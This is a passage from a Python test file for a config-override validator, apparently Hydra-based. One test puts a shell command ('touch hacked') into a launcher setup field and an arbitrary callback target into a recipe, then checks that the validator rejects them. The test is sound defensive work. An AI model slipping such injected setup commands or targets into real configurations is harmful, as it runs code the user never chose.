    composing.recipe = "{}"
    overrides = read_overrides(expand(words), composing.catalogue)
    assert not overrides.problems
    checked(overrides, composing)


def test_a_typed_key_does_not_cover_its_neighbours(composing: Merging) -> None:
    words = ["hydra={job: {name: x}}", "hydra/launcher=submitit_slurm", "hydra.launcher.nodes=2"]
    composing.recipe = "hydra: {job: {chdir: true}, launcher: {setup: [touch hacked]}, callbacks: {x: {_target_: a.b}}}"
    with pytest.raises(ConfigError) as caught:
        checked(read_overrides(expand(words), composing.catalogue), composing)
    keys = {problem.key for problem in caught.value.problems}
    assert {"hydra.job.chdir", "hydra.launcher.setup[0]", "hydra.callbacks.x"} <= keys
